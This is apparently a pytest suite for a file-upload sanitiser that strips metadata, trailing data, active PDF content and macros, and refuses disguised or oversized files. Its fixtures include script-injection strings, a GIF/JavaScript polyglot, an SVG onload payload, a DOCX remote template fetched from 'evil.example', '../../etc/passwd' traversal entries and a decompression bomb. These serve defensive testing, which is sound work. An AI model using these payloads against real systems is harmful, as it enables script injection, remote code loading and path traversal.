"""Nothing is kept but what was recognised, bounded and, where that is possible, written anew."""

import io
import zlib

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as some
from PIL import Image, ImageFile

from kilta.engines.tests import hostile
from kilta.engines.uploads import Kind, Unfit, Why, fit

EVERYTHING = set(Kind)


def made_of(content, *kinds, name=""):
    with fit(io.BytesIO(content), set(kinds) or EVERYTHING, name=name) as made:
        return made, made.content.read()


def why_not(content, *kinds, name=""):
    with pytest.raises(Unfit) as refused:
        fit(io.BytesIO(content), set(kinds) or EVERYTHING, name=name)
    return refused.value.why


@pytest.mark.parametrize(("kind", "extension"), [("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")])
def test_a_picture_stays_a_picture_of_its_format(kind, extension):
    made, content = made_of(hostile.picture(kind))

    assert (made.kind, made.extension, made.width, made.height) == (Kind.IMAGE, extension, 60, 40)
    assert Image.open(io.BytesIO(content)).format == kind


def test_place_camera_and_comment_are_gone_and_the_picture_stands_upright():
    before = hostile.picture_with_a_place()
    assert b"Aino" in before

    made, content = made_of(before)

    after = Image.open(io.BytesIO(content))
    assert dict(after.getexif()) == {}
    assert b"Aino" not in content
    assert (made.width, made.height) == after.size == (40, 60)


def test_words_in_a_picture_are_gone():
    assert b"Aino" not in made_of(hostile.picture_with_words())[1]


@pytest.mark.parametrize("behind", [b"PK\x03\x04 zip", b"<script>alert(1)</script>", b"%PDF-1.7 second file"])
def test_what_hides_behind_a_picture_is_gone(behind):
    assert behind not in made_of(hostile.picture(behind=behind))[1]


@pytest.mark.parametrize("mode", ["RGBA", "P", "L", "1", "LA"])
def test_a_picture_in_another_mode_is_shown_by_every_browser(mode):
    made, _content = made_of(hostile.picture("PNG", mode=mode))

    assert made.kind is Kind.IMAGE


def test_a_picture_for_printers_becomes_one_for_screens():
    _made, content = made_of(hostile.picture(mode="CMYK"))

    assert Image.open(io.BytesIO(content)).mode == "RGB"


def test_a_large_picture_is_made_smaller():
    made, _content = made_of(hostile.picture(size=(6000, 3000)))

    assert (made.width, made.height) == (4096, 2048)


@pytest.mark.parametrize("side", [8_000, 12_000, 50_000, 2_000_000_000])
def test_too_many_pixels_are_refused_before_they_are_decoded(side):
    assert why_not(hostile.picture_that_claims(side, side)) is Why.TOO_MANY_PIXELS


@pytest.mark.parametrize("others_let_it_pass", [False, True])
def test_half_a_picture_is_refused_whatever_a_library_has_turned_on(monkeypatch, others_let_it_pass):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", others_let_it_pass)
    whole = hostile.picture("PNG", size=(300, 300))

    assert why_not(whole[: len(whole) // 2]) is Why.BROKEN


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", Why.OTHER_PICTURE),
        (b"\0\0\0\x18ftypheic", Why.OTHER_PICTURE),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Why.DRAWING),
        (b'<?xml version="1.0"?>\n<!-- x --><svg/>', Why.DRAWING),
        (b"<!doctype html><script>alert(1)</script>", Why.OTHER_KIND),
        (b"\xef\xbb\xbf <html>", Why.OTHER_KIND),
        (b"MZ\x90\x00\x03", Why.NOT_TEXT),
        (b"\x7fELF\x02\x01", Why.NOT_TEXT),
        (b"caf\xe9", Why.NOT_TEXT),
        (b"a\0b", Why.NOT_TEXT),
        (b"", Why.EMPTY),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Why.OLD_OR_LOCKED),
        (b"%PDF-1.7\nnothing", Why.BROKEN),
        (b"PK\x03\x04nothing", Why.BROKEN),
    ],
)
def test_what_it_is_counts_and_not_its_name(content, why):
    assert why_not(content, name="photo.png") is why


def test_a_good_file_of_a_kind_that_was_not_asked_for_is_refused():
    assert why_not(hostile.pdf(), Kind.IMAGE) is Why.OTHER_KIND
    assert why_not(hostile.xlsx(), Kind.DOCUMENT) is Why.OTHER_KIND
    assert why_not(b"words", Kind.PDF) is Why.OTHER_KIND


def test_a_file_beyond_the_limit_of_its_kind_is_refused():
    limits = {Kind.IMAGE: 10, Kind.TEXT: 10_000}

    with pytest.raises(Unfit) as refused:
        fit(io.BytesIO(hostile.picture()), set(limits), limits=limits)

    assert (refused.value.why, refused.value.values["limit"]) == (Why.TOO_LARGE, 10)


def test_a_pdf_loses_what_acts_what_it_carries_and_who_wrote_it():
    before = hostile.armed_pdf()
    assert b"ARMED" in hostile.readable(before)

    made, content = made_of(before, Kind.PDF)

    assert b"ARMED" not in hostile.readable(content)
    with pikepdf.open(io.BytesIO(content)) as after:
        assert [link.A.URI for link in after.pages[0].Annots if "/A" in link] == ["https://kilta.example"]
    assert made.content_type == "application/pdf"


def test_the_table_of_contents_and_the_structure_of_a_pdf_stay():
    def structured(made):
        with made.open_outline() as outline:
            outline.root += [pikepdf.OutlineItem("First", 0), pikepdf.OutlineItem("Second", 0)]
        attributes = pikepdf.Dictionary(O=pikepdf.Name.Table, Headers=["one"])
        made.Root.StructTreeRoot = pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.TD, A=attributes))

    _made, content = made_of(hostile.pdf(structured))

    with pikepdf.open(io.BytesIO(content)) as after:
        with after.open_outline() as outline:
            assert [item.title for item in outline.root] == ["First", "Second"]
        assert after.Root.StructTreeRoot.K.A.Headers == ["one"]


@pytest.mark.parametrize("user", ["", "word"])
def test_a_locked_pdf_is_refused(user):
    assert why_not(hostile.locked_pdf(user)) is Why.LOCKED


def test_what_is_packed_inside_a_pdf_is_not_unpacked():
    filters = [pikepdf.Name.ASCIIHexDecode, pikepdf.Name.FlateDecode]

    def with_bomb(made):
        packed = zlib.compress(b"\0" * 1_000_000).hex().encode() + b">"
        made.Root.Bomb = pikepdf.Stream(made, packed, Filter=pikepdf.Array(filters))

    as_packed = pikepdf.StreamDecodeLevel.none
    _made, content = made_of(hostile.pdf(with_bomb, stream_decode_level=as_packed, compress_streams=False))

    with pikepdf.open(io.BytesIO(content)) as after:
        assert list(after.Root.Bomb.Filter) == filters


def test_what_lies_behind_the_end_of_a_pdf_is_gone():
    assert b"<script>" not in made_of(hostile.pdf() + b"\n<script>alert(1)</script>")[1]


@pytest.mark.parametrize(
    ("content", "kind", "extension"),
    [
        (hostile.docx(), Kind.DOCUMENT, "docx"),
        (hostile.odt(), Kind.DOCUMENT, "odt"),
        (hostile.xlsx(), Kind.SHEET, "xlsx"),
    ],
)
def test_an_office_document_is_kept_as_it_came(content, kind, extension):
    made, kept = made_of(content)

    assert (made.kind, made.extension) == (kind, extension)
    assert kept == content


REMOTE = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm"/>'


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (hostile.docx(hostile.MACRO_DOCX), Why.MACROS),
        (hostile.docx(**{"word/vbaProject.bin": b"x"}), Why.MACROS),
        (hostile.docx(**{"word/embeddings/oleObject1.bin": b"x"}), Why.MACROS),
        (hostile.docx(**{"word/_rels/settings.xml.rels": REMOTE}), Why.MACROS),
        (hostile.odt(**{"Basic/Standard/Module1.xml": "x"}), Why.MACROS),
        (hostile.odt(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}), Why.OLD_OR_LOCKED),
        (hostile.docx(**{"../../etc/passwd": "x"}), Why.BROKEN),
        (hostile.docx(**{"/etc/passwd": "x"}), Why.BROKEN),
        (hostile.archive(**{"a.txt": "no document"}), Why.OTHER_KIND),
        (hostile.docx() + b"<script>", Why.BROKEN),
    ],
)
def test_a_document_with_more_than_a_document_is_refused(content, why):
    assert why_not(content) is why


def test_a_bomb_is_not_unpacked():
    assert why_not(hostile.bomb()) is Why.TOO_MUCH_INSIDE


def test_too_many_parts_are_refused():
    assert why_not(hostile.docx(**{f"word/{number}.xml": "" for number in range(5_001)})) is Why.TOO_MUCH_INSIDE


@pytest.mark.parametrize(
    ("name", "kinds", "kind", "extension"),
    [
        ("log.txt", (Kind.TEXT,), Kind.TEXT, "txt"),
        ("list.CSV", (Kind.TEXT,), Kind.TEXT, "csv"),
        ("list.csv", (Kind.SHEET,), Kind.SHEET, "csv"),
    ],
)
def test_text_becomes_utf_8_without_a_mark(name, kinds, kind, extension):
    made, content = made_of("\ufeffnäyte 🧑‍🏭\r\n".encode(), *kinds, name=name)

    assert (made.kind, made.extension, content.decode()) == (kind, extension, "näyte 🧑‍🏭\r\n")


SEEDS = [hostile.picture(), hostile.picture("PNG"), hostile.docx(), hostile.odt(), hostile.xlsx(), b"plain, text\n"]


@given(some.sampled_from(SEEDS), some.lists(some.tuples(some.integers(0, 5_000), some.integers(0, 255)), max_size=20))
def test_a_damaged_file_is_made_fit_or_refused_and_nothing_else(seed, damages):
    content = bytearray(seed)
    for place, value in damages:
        content[place % len(content)] = value

    try:
        fit(io.BytesIO(bytes(content)), EVERYTHING - {Kind.PDF}).content.close()
    except Unfit as refused:
        assert refused.why in Why
